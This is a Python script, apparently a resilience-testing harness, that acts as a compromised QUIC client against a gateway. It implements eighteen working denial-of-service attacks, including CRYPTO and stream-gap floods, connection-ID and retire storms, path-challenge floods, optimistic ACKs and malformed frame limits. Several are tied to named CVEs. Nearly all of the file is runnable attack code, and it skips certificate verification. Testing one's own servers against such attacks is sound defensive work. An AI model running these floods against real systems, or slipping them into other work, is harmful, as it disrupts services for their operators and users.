"""An enrolled agent that has gone bad: a QUIC client with a real certificate that writes its own frames into 1-RTT packets.

Usage: hostile.py ATTACK HOST PORT CERT.pem KEY.pem [--seconds N] [--seed N]
Says one line of JSON on standard output: what was sent, and how the link ended (RFC 9000 19.19), if it did.
"""

import argparse
import json
import os
import random
import select
import socket
import ssl
import time

from aioquic.buffer import encode_uint_var as varint
from aioquic.quic import events
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.tls import Epoch

HANDSHAKE_SECONDS = 5
PACKET_BYTES = 1200
PACKETS_BETWEEN_READS = 32


class Hostile:
    """One link. `frames` sends what it is given as the payload of one packet, whatever it is."""

    def __init__(self, host: str, port: int, certificate: str, key: str) -> None:
        # What the gateway proves is of no interest here.
        configuration = QuicConfiguration(is_client=True, alpn_protocols=["gw-agent-tunnel/2"], verify_mode=ssl.CERT_NONE)
        configuration.load_cert_chain(certificate, key)
        self.quic = QuicConnection(configuration=configuration)
        self.address = (host, port)
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.connect(self.address)
        self.socket.setblocking(False)
        self.ended = None
        self.sent_packets = 0
        self.sent_bytes = 0
        self.acknowledging = True
        self.hears = lambda event: None
        self.quic.connect(self.address, time.monotonic())
        self._handshake()

    def _handshake(self) -> None:
        deadline = time.monotonic() + HANDSHAKE_SECONDS
        while not self.quic._handshake_confirmed:
            if time.monotonic() > deadline or self.ended is not None:
                raise SystemExit(f"no handshake: {self.ended}")
            self.listen(0.05)

    def listen(self, seconds: float) -> None:
        """Takes in what came, and lets aioquic answer it unless we have stopped acknowledging."""
        until = time.monotonic() + seconds
        while True:
            wait = max(0.0, until - time.monotonic())
            timer = self.quic.get_timer()
            if timer is not None:
                wait = min(wait, max(0.0, timer - time.monotonic()))
            readable, _, _ = select.select([self.socket], [], [], wait)
            now = time.monotonic()
            if readable:
                self._read(now)
            if timer is not None and now >= timer:
                self.quic.handle_timer(now)
            if self.acknowledging:
                for datagram, _ in self.quic.datagrams_to_send(now):
                    self._send(datagram)
            while (event := self.quic.next_event()) is not None:
                if isinstance(event, events.ConnectionTerminated):
                    self.ended = {"code": event.error_code, "frame": event.frame_type, "reason": event.reason_phrase}
                self.hears(event)
            if self.ended is not None or time.monotonic() >= until:
                return

    def _read(self, now: float) -> None:
        for _ in range(256):
            try:
                datagram = self.socket.recv(65536)
            except (BlockingIOError, ConnectionRefusedError):
                return
            self.quic.receive_datagram(datagram, self.address, now)

    def _send(self, datagram: bytes) -> None:
        try:
            self.socket.send(datagram)
        except (BlockingIOError, ConnectionRefusedError):
            pass

    def frames(self, payload: bytes, number: int | None = None, via: socket.socket | None = None) -> None:
        """One 1-RTT packet with this payload; `number` where the next would not do, `via` from another address."""
        if number is None:
            number = self.quic._packet_number
            self.quic._packet_number += 1
        else:
            self.quic._packet_number = max(self.quic._packet_number, number + 1)
        header = bytes([0x43]) + self.quic._peer_cid.cid + (number & 0xFFFFFFFF).to_bytes(4, "big")
        crypto = self.quic._cryptos[Epoch.ONE_RTT]
        if not crypto.send.is_valid():  # the link has ended and aioquic has let its keys go; the event follows
            self.listen(0.01)
            return
        packet = crypto.encrypt_packet(header, payload.ljust(4, b"\0"), number)
        self.sent_packets += 1
        self.sent_bytes += len(packet)
        if via is not None:
            via.send(packet)
        else:
            self._send(packet)
        if self.sent_packets % PACKETS_BETWEEN_READS == 0:
            self.listen(0)

    def elsewhere(self) -> socket.socket:
        other = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        other.connect(self.address)
        return other

    def control_stream(self, data: bytes) -> None:
        self.frames(stream(0, 0, data))


# Frames, RFC 9000 19.


def stream(stream_id: int, offset: int, data: bytes, fin: bool = False) -> bytes:
    return bytes([0x0E | int(fin)]) + varint(stream_id) + varint(offset) + varint(len(data)) + data


def crypto(offset: int, data: bytes) -> bytes:
    return b"\x06" + varint(offset) + varint(len(data)) + data


def new_connection_id(sequence: int, retire_prior_to: int, connection_id: bytes) -> bytes:
    return b"\x18" + varint(sequence) + varint(retire_prior_to) + bytes([len(connection_id)]) + connection_id + os.urandom(16)


def retire_connection_id(sequence: int) -> bytes:
    return b"\x19" + varint(sequence)


def ack(largest: int, first_range: int) -> bytes:
    return b"\x02" + varint(largest) + varint(0) + varint(0) + varint(first_range)


def filled(make, room: int = PACKET_BYTES) -> bytes:
    """As many frames as a packet has room for."""
    payload = b""
    while True:
        frame = make()
        if len(payload) + len(frame) > room:
            return payload
        payload += frame


# Attacks. Each is a generator: one step a turn, until time is up or the link has ended.


def ping_flood(agent: Hostile):
    while True:
        agent.frames(b"\x01")
        yield


def ping_flood_unacknowledged(agent: Hostile):
    agent.acknowledging = False
    yield from ping_flood(agent)


def crypto_flood(agent: Hostile):
    """Whole packets of CRYPTO that can never be put in order (CVE-2024-1765)."""
    offset = 1000
    while True:
        agent.frames(crypto(offset, os.urandom(1150)))
        offset += 1200
        yield


def crypto_crumbs(agent: Hostile):
    """The same in single bytes: what costs most memory for each byte sent."""
    offset = 1000

    def crumb() -> bytes:
        nonlocal offset
        offset += 2
        return crypto(offset, b"x")

    while True:
        agent.frames(filled(crumb))
        yield


def stream_crumbs(agent: Hostile):
    """Every second byte of as many streams as we may open, up to their credit."""
    for stream_id in range(0, 400, 4):
        offset = 4 if stream_id == 0 else 1
        while offset < 128 * 1024 - 2:

            def crumb() -> bytes:
                nonlocal offset
                offset += 2
                return stream(stream_id, min(offset, 128 * 1024 - 1), b"x")

            agent.frames(filled(crumb))
            yield


def stream_gaps(agent: Hostile):
    """All credit of all streams, but never the first byte."""
    for stream_id in range(0, 400, 4):
        for offset in range(1, 128 * 1024 - 1200, 1100):
            agent.frames(stream(stream_id, offset, bytes(1100)))
            yield


def connection_id_storm(agent: Hostile):
    """New ids that retire those before them, each to be answered by a RETIRE_CONNECTION_ID (CVE-2024-1410)."""
    sequence = 10
    while True:

        def renew() -> bytes:
            nonlocal sequence
            sequence += 1
            return new_connection_id(sequence, sequence, os.urandom(8))

        agent.frames(filled(renew))
        yield


def connection_id_storm_late(agent: Hostile):
    """Ids that were retired before they came: each is remembered until its retirement was acknowledged."""
    agent.acknowledging = False
    top = 2**40
    agent.frames(new_connection_id(top, top, os.urandom(8)))
    sequence = 100
    while True:

        def late() -> bytes:
            nonlocal sequence
            sequence += 1
            return new_connection_id(sequence, 0, sequence.to_bytes(8, "big"))

        agent.frames(filled(late))
        yield


def retire_storm(agent: Hostile):
    """Retirements of ids that the gateway never gave, and of its only one."""
    agent.frames(filled(lambda: retire_connection_id(0)))
    yield
    while True:
        agent.frames(filled(lambda: retire_connection_id(random.randrange(2**30))))
        yield


def path_challenge_flood(agent: Hostile):
    """Challenges whose answers are never acknowledged, so that they queue (CVE-2023-6193)."""
    agent.acknowledging = False
    while True:
        agent.frames(filled(lambda: b"\x1a" + os.urandom(8)))
        yield


def moved_and_retired(agent: Hostile):
    """Another address, and the connection id of the first path retired from there (CVE-2025-7054)."""
    other = agent.elsewhere()
    sequence = 10
    while True:
        sequence += 2
        here = new_connection_id(sequence, sequence - 1, os.urandom(8)) + new_connection_id(sequence + 1, sequence - 1, os.urandom(8))
        agent.frames(here)
        agent.frames(b"\x1a" + os.urandom(8) + b"\x01", via=other)
        agent.frames(new_connection_id(sequence + 2, sequence + 2, os.urandom(8)) + retire_connection_id(0), via=other)
        sequence += 2
        yield


def optimistic_acks(agent: Hostile):
    """Acknowledges what was never sent (CVE-2025-4820, CVE-2025-4821)."""
    largest = 1000
    while True:
        largest = min(largest * 2, 2**62 - 1)
        agent.frames(ack(largest, min(largest, random.choice([0, 1, largest]))) + b"\x01")
        yield


def limits_gone_mad(agent: Hostile):
    """MAX_DATA, MAX_STREAM_DATA and MAX_STREAMS up, down and beyond what is allowed."""
    agent.frames(b"\x10" + varint(2**62 - 1) + b"\x11" + varint(0) + varint(2**62 - 1) + b"\x12" + varint(2**60))
    yield
    while agent.ended is None:
        agent.frames(filled(lambda: b"\x10" + varint(random.randrange(2**62)) + b"\x14" + varint(random.randrange(2**62))))
        agent.frames(filled(lambda: b"\x12" + varint(random.randrange(2**60)) + b"\x16" + varint(random.randrange(2**60))))
        yield
        if agent.sent_packets > 200:
            agent.frames(b"\x12" + varint(2**62 - 1))


def endless_frame(agent: Hostile):
    """A control frame of 2^32 - 1 bytes."""
    agent.control_stream(b"\xff\xff\xff\xff" + bytes(100))
    while True:
        yield
        agent.listen(0.01)


def forbidden_streams(agent: Hostile):
    """Streams that only the gateway may open, unidirectional ones, and more than it allows."""
    agent.frames(stream(4, 0, b"hello") + stream(8, 0, b"hello", fin=True))
    yield
    agent.frames(stream(2, 0, b"unidirectional"))
    yield
    while True:
        agent.frames(stream(1, 0, b"yours"))
        yield
        agent.frames(stream(4 * 5000, 0, b"too many"))
        yield


def reset_storm(agent: Hostile):
    """Streams opened and reset at once, again and again."""
    stream_id = 4
    while True:
        agent.frames(b"\x04" + varint(stream_id) + varint(7) + varint(0) + b"\x05" + varint(stream_id) + varint(7))
        stream_id = stream_id + 4 if stream_id < 396 else 4
        yield


def noise(agent: Hostile):
    """Random bytes where frames should be."""
    while True:
        agent.frames(random.randbytes(random.randrange(1, 1150)))
        yield


def number_jumps(agent: Hostile):
    """Packet numbers that leap, so that every packet is a range of its own to acknowledge."""
    number = agent.quic._packet_number
    while True:
        number += 2 + random.randrange(1000)
        agent.frames(b"\x01", number=number)
        yield


ATTACKS = {
    attack.__name__: attack
    for attack in [
        ping_flood,
        ping_flood_unacknowledged,
        crypto_flood,
        crypto_crumbs,
        stream_crumbs,
        stream_gaps,
        connection_id_storm,
        connection_id_storm_late,
        retire_storm,
        path_challenge_flood,
        moved_and_retired,
        optimistic_acks,
        limits_gone_mad,
        endless_frame,
        forbidden_streams,
        reset_storm,
        noise,
        number_jumps,
    ]
}


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=[*ATTACKS, "list"])
    parser.add_argument("host", nargs="?")
    parser.add_argument("port", nargs="?", type=int)
    parser.add_argument("certificate", nargs="?")
    parser.add_argument("key", nargs="?")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--seed", type=int, default=1)
    given = parser.parse_args()
    if given.attack == "list":
        print(json.dumps(list(ATTACKS)))
        return
    random.seed(given.seed)
    agent = Hostile(given.host, given.port, given.certificate, given.key)
    began = time.monotonic()
    steps = ATTACKS[given.attack](agent)
    while agent.ended is None and time.monotonic() - began < given.seconds:
        if next(steps, "done") == "done":
            break
    agent.acknowledging = True
    if agent.ended is None:
        agent.listen(max(0.5, given.seconds - (time.monotonic() - began)))
    print(json.dumps({"attack": given.attack, "packets": agent.sent_packets, "bytes": agent.sent_bytes, "seconds": round(time.monotonic() - began, 2), "ended": agent.ended}))


if __name__ == "__main__":
    main()
